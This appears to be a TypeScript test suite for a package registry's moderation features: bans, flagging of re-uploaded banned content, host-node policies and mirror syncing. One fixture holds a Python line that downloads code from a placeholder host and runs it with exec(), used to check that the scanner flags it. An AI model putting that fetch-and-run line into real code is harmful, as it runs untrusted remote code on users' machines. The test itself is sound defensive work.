import assert from 'node:assert/strict'
import { test } from 'node:test'

import { columnsOf, expectStatus, listOf, pluck } from '../../support/client.ts'
import { writeZip } from '../../support/zip-writer.ts'
import { unique, untilDecided, upload, usePublisher, useRegistry } from './registry-support.ts'
import type { Added, Owned, Publishing } from './registry-support.ts'

const ACTIVE = 'NodeVersionStatusActive'
const BANNED = 'NodeVersionStatusBanned'
const FLAGGED = 'NodeVersionStatusFlagged'

const registry = useRegistry({ roles: ['api', 'core', 'media'] })
const { anonymous, admin } = registry
const owned = usePublisher(registry)
const other = usePublisher(registry)
const { owner } = owned

/** A pack whose one host node and one file of code, of more than 200 bytes, have that name. */
const packOf = (name: string, more: Record<string, string> = {}): Buffer => {
  const code = `class Node:\n    """${'x'.repeat(200)}"""\n    RETURN_TYPES = ()\nNODE_CLASS_MAPPINGS = {"${name}": Node}\n`
  const files = { '__init__.py': code, ...more }
  return writeZip(Object.entries(files).map(([name, data]) => ({ name, data, method: 8 })))
}

interface Sent extends Added {
  status: unknown
}

/** Publishes a version with this archive, and waits until it is decided on. */
const send = async (zip: Buffer, publishing: Publishing = {}, of: Owned = owned): Promise<Sent> => {
  const added = await of.addVersion(publishing)
  assert.equal((await upload(added.signedUrl, zip)).status, 200)
  const { status } = await untilDecided(registry, added.version)
  return { ...added, status }
}

const set = (path: string, status: string, reason = 'malware') => {
  const name = status.startsWith('NodeVersion') ? 'status_reason' : 'status_detail'
  return admin.put(`/admin${path}`, { status, [name]: reason })
}

/** Reads what the registry found in a version: rule, severity, file and the version that it is about. */
const findingsOf = async ({ version }: Added): Promise<unknown[][]> => {
  const found = listOf(await admin.get(`${version}/findings`), 'findings')
  const own = found.filter(({ scanner }) => scanner === 'registry')
  return columnsOf(own, 'issue_type', 'severity', 'file_path', 'same_as')
}

test('a withdrawn version can be banned, and so can one of a withdrawn node', async () => {
  for (const withdraw of ['ownVersion', 'ownNode'] as const) {
    const zip = packOf(unique('Withdrawn'))
    const first = await send(zip)
    const count = async () => (await anonymous.get('/versions')).body['total'] as unknown as number
    const counted = await count()
    expectStatus(await owner.delete(first[withdraw]), 204)
    for (const rejected of [ACTIVE, FLAGGED])
      assert.equal((await set(first.version, rejected)).status, 404)
    const { body } = expectStatus(await set(first.version, BANNED), 200)
    assert.deepEqual([body['status'], body['status_reason']], [BANNED, 'malware'])
    if (withdraw === 'ownVersion') {
      assert.equal((await anonymous.get(first.version)).body['status'], BANNED)
      assert.equal(await count(), counted)
      expectStatus(await owner.delete(first.ownVersion), 409, 'illegal_move')
    }
    const again = await send(zip, { version: '2.0.0' })
    assert.equal(again.status, FLAGGED)
    const about = [['banned-content', 'high', undefined, `${first.nodeId}@1.0.0`]]
    assert.deepEqual(await findingsOf(again), about)
  }
})

const findingsIn = (version: object): Record<string, unknown>[] =>
  'findings' in version ? (version.findings as Record<string, unknown>[]) : []

test('an owner reads the decision on a review, and what it is about: no release, then a ban', async () => {
  const evil = `import requests\nexec(requests.get("https://x.example/${unique('x')}").text)\n`
  const sent = await send(packOf(unique('Evil'), { 'evil.py': evil }))
  assert.equal(sent.status, FLAGGED)
  const review = () => owner.post(`${sent.ownVersion}/review`, {})
  const place = {
    issue_type: 'exec-network',
    severity: 'high',
    file_path: 'evil.py',
    line_number: 2,
  }
  const decisions: unknown[] = []
  for (const status of [FLAGGED, BANNED]) {
    expectStatus(await review(), 201)
    const unchanged = await owner.get(sent.version)
    expectStatus(await set(sent.version, status, `no: ${status}`), 200)
    const etag = unchanged.headers.get('etag') ?? ''
    const { body } = expectStatus(await owner.get(sent.version, { 'if-none-match': etag }), 200)
    assert.deepEqual([body['status'], body['status_reason']], [status, `no: ${status}`])
    const [{ message, ...finding } = {}, ...others] = findingsIn(body)
    assert.match(String(message), /^Code from the network is run/)
    assert.deepEqual([finding, others], [place, []])
    decisions.unshift({ status, reason: `no: ${status}` })
    const found = await owner.get(`${sent.version}/findings`)
    assert.deepEqual(pluck(listOf(found, 'reviews'), 'decision'), decisions)
    const seen = await anonymous.get(sent.version, {
      'if-none-match': (await owner.get(sent.version)).headers.get('etag') ?? '',
    })
    assert.ok(!('findings' in expectStatus(seen, 200).body), 'strangers see none')
  }
  for (const client of [admin, other.owner])
    assert.equal('findings' in (await client.get(sent.version)).body, client === admin)
})

test('what nobody could have is not banned once it is deleted', async () => {
  const { version, ownVersion } = await owned.addVersion()
  expectStatus(await owner.delete(ownVersion), 204)
  const rejected = expectStatus(await set(version, BANNED), 409, 'illegal_move')
  assert.match(rejected.body.message ?? '', /it can become nothing else/)
})

test('a ban of a node, or of its publisher, holds for content and files of its deleted versions', async () => {
  const [name, keptName] = [unique('Gone'), unique('Kept')]
  const banned = await registry.addPublisher()
  const gone = await send(packOf(name), {}, banned)
  const { nodeId, node } = gone
  await send(packOf(keptName), { nodeId, version: '1.1.0' }, banned)
  expectStatus(await banned.owner.delete(gone.ownVersion), 204)
  const findingsOfChanged = async (name: string) => {
    const copy = await send(packOf(name, { 'changed.py': unique('x') }))
    assert.equal(copy.status, ACTIVE)
    return await findingsOf(copy)
  }
  const found = (version: string) => [
    ['banned-file', 'medium', '__init__.py', `${nodeId}@${version}`],
  ]
  const ofPublisher = `/admin${banned.path}`
  for (const [ban, lift] of [
    [() => set(node, 'NodeStatusBanned'), () => set(node, 'NodeStatusActive')],
    [
      () => admin.post(`${ofPublisher}/ban`, { reason: 'x' }),
      () => admin.post(`${ofPublisher}/unban`, {}),
    ],
  ] as const) {
    expectStatus(await ban(), 200)
    assert.equal((await send(packOf(name))).status, FLAGGED)
    assert.deepEqual(await findingsOfChanged(name), found('1.0.0'))
    assert.deepEqual(await findingsOfChanged(keptName), found('1.1.0'))
    expectStatus(await lift(), 200)
    assert.deepEqual(await findingsOfChanged(name), [])
  }
})

test('a host node that is banned in one node is found in a copy of its code in another', async () => {
  const name = unique('Evil')
  const first = await send(packOf(name, { 'a.py': 'A = 1' }))
  const before = await send(packOf(name, { 'b.py': 'B = 1' }), {}, other)
  const policy = { policy: 'HostNodePolicyBanned', reason: 'it deletes files' }
  const { body } = expectStatus(
    await admin.put(`/admin${first.node}/host-nodes/${name}`, policy),
    200,
  )
  assert.deepEqual(body['other_node_ids'], [before.nodeId])
  const about = [undefined, `${first.nodeId}@1.0.0`]
  const copy = await send(packOf(name, { 'a.py': 'A = 1' }), {}, other)
  assert.equal(copy.status, FLAGGED)
  assert.deepEqual(await findingsOf(copy), [['copied-host-node', 'high', ...about]])
  const changed = await send(packOf(name, { 'a.py': 'A = 2' }), {}, other)
  assert.equal(changed.status, ACTIVE)
  assert.deepEqual(await findingsOf(changed), [['copied-host-node', 'medium', ...about]])
  const { tags_admin: tags } = (await anonymous.get(changed.version)).body
  assert.deepEqual(tags, ['security:copied-host-node'])
  const [own] = listOf(await other.owner.get(`${changed.version}/findings`), 'findings')
  assert.match(String(own?.['message']), new RegExp(`banned this host node .*: ${name}$`))
  assert.ok(own && !('same_as' in own))
})

/** Keeps versions and their host nodes as docs/registry.md says a mirror does. */
const makeMirror = () => {
  const copy = new Map<string, { version: unknown; hostNodes: unknown }>()
  let since = ''
  const readHostNodes = async (path: string) =>
    (await anonymous.get(`${path}/host-nodes?limit=1000`)).body['host_nodes']
  const versionsOf = async (id: string) => listOf(await anonymous.get(`/nodes/${id}/versions`))
  return async () => {
    const page = expectStatus(
      await anonymous.get(
        `/nodes?include_removed=true&limit=1000${since && `&timestamp=${since}`}`,
      ),
      200,
    )
    since = String(page.body['next_timestamp'])
    const nodes = listOf(page, 'nodes').filter((node) => 'publisher' in node)
    for (const id of pluck(nodes))
      for (const version of await versionsOf(id)) {
        const path = `/nodes/${id}/versions/${String(version['version'])}`
        const known = copy.get(path)?.version
        if (JSON.stringify(known) !== JSON.stringify(version))
          copy.set(path, { version, hostNodes: await readHostNodes(path) })
      }
    return async ({ node }: Added) => {
      for (const version of await versionsOf(node.slice('/nodes/'.length))) {
        const path = `${node}/versions/${String(version['version'])}`
        assert.deepEqual(copy.get(path), { version, hostNodes: await readHostNodes(path) })
      }
    }
  }
}

test('a copy of the lists learns of a changed policy, and reads the versions again that have the host node', async () => {
  const [name, kept] = [unique('Shredder'), unique('Kept')]
  const first = await send(packOf(name))
  const { nodeId, node } = first
  const second = await send(packOf(kept), { nodeId, version: '2.0.0' })
  const mirror = makeMirror()
  await (
    await mirror()
  )(first)
  const seen = async ({ version }: Added) => {
    const { body, headers } = await anonymous.get(version)
    return [body, headers.get('etag')]
  }
  const unchanged = await seen(second)
  for (const fields of [
    { policy: 'HostNodePolicyBanned', reason: 'it deletes files' },
    { policy: 'HostNodePolicyBanned', reason: 'it deletes all files' },
    { policy: 'HostNodePolicyLocalOnly' },
  ]) {
    const before = await seen(first)
    expectStatus(await admin.put(`/admin${node}/host-nodes/${name}`, fields), 200)
    await (
      await mirror()
    )(first)
    assert.notDeepEqual(await seen(first), before)
  }
  const policies = { host_node_policies: { [name]: 'HostNodePolicyActive' } }
  expectStatus(await admin.put(`/admin${first.version}`, policies), 200)
  await (
    await mirror()
  )(first)
  assert.deepEqual(await seen(second), unchanged)
})

test('the response to a ban, and to its end, names who else has the content', async () => {
  const zip = packOf(unique('Copied'))
  const first = await send(zip)
  const copier = await registry.addPublisher()
  const copy = await send(zip, {}, copier)
  const copied = (status: unknown) => [{ node_id: copy.nodeId, version: '1.0.0', status }]
  const sameOf = ({ body }: Awaited<ReturnType<typeof set>>) => body['same_content'] as unknown
  assert.deepEqual(sameOf(await set(first.version, BANNED)), copied(ACTIVE))
  const later = await send(zip)
  assert.equal(later.status, FLAGGED)
  const all = [{ node_id: later.nodeId, version: '1.0.0', status: FLAGGED }, ...copied(ACTIVE)]
  assert.deepEqual(sameOf(await set(first.version, ACTIVE, 'a mistake')), all)
  // What was flagged stays so, and each is freed by itself.
  assert.equal((await anonymous.get(later.version)).body['status'], FLAGGED)
  expectStatus(await set(later.version, ACTIVE, 'a mistake'), 200)
  const now = [{ ...all[0], status: ACTIVE }, ...copied(ACTIVE)]
  for (const status of ['NodeStatusBanned', 'NodeStatusActive'])
    assert.deepEqual(sameOf(await set(first.node, status)), now)
  const path = `/admin${copier.path}`
  const own = [now[0], { node_id: first.nodeId, version: '1.0.0', status: ACTIVE }]
  for (const response of [
    await admin.post(`${path}/ban`, { reason: 'x' }),
    await admin.post(`${path}/unban`, {}),
  ])
    assert.deepEqual(sameOf(response), own)
  assert.ok(!('same_content' in (await admin.put(`/admin${first.node}`, { github_stars: 1 })).body))
})

test('an archive of a version that was banned while it was awaited is rejected', async () => {
  const added = await owned.addVersion()
  expectStatus(await set(added.version, BANNED), 200)
  const rejected = await upload(added.signedUrl, packOf('Late'))
  const body = (await rejected.json()) as { error?: string; message?: string }
  assert.deepEqual([rejected.status, body.error], [403, 'version_blocked'])
  assert.match(body.message ?? '', /banned the version; it takes no archive/)
})

test('a node with a banned version is deleted by a platform admin alone', async () => {
  const { node, ownNode, version } = await owned.addVersion()
  expectStatus(await set(version, BANNED), 200)
  expectStatus(await owner.delete(ownNode), 409, 'illegal_move')
  expectStatus(await anonymous.get(node), 200)
  expectStatus(await set(node, 'NodeStatusDeleted'), 200)
  expectStatus(await anonymous.get(node), 404, 'node_not_found')
})

test('platform admins see that a member of a publisher belongs to a banned one', async () => {
  const user = unique('maker')
  const [first, next] = [unique('pub'), unique('pub')]
  await registry.addPublisher({ id: first, user })
  expectStatus(await admin.post(`/admin/publishers/${first}/ban`, { reason: 'spam' }), 200)
  const { path, owner } = await registry.addPublisher({ id: next, user })
  const response = await admin.get(path)
  assert.deepEqual(response.body['banned_publishers'], [first])
  for (const client of [owner, anonymous])
    assert.ok(!('banned_publishers' in (await client.get(path)).body))
  expectStatus(await admin.post(`/admin/publishers/${first}/unban`, {}), 200)
  const after = await admin.get(path, { 'if-none-match': response.headers.get('etag') ?? '' })
  assert.deepEqual(expectStatus(after, 200).body['banned_publishers'], [])
})
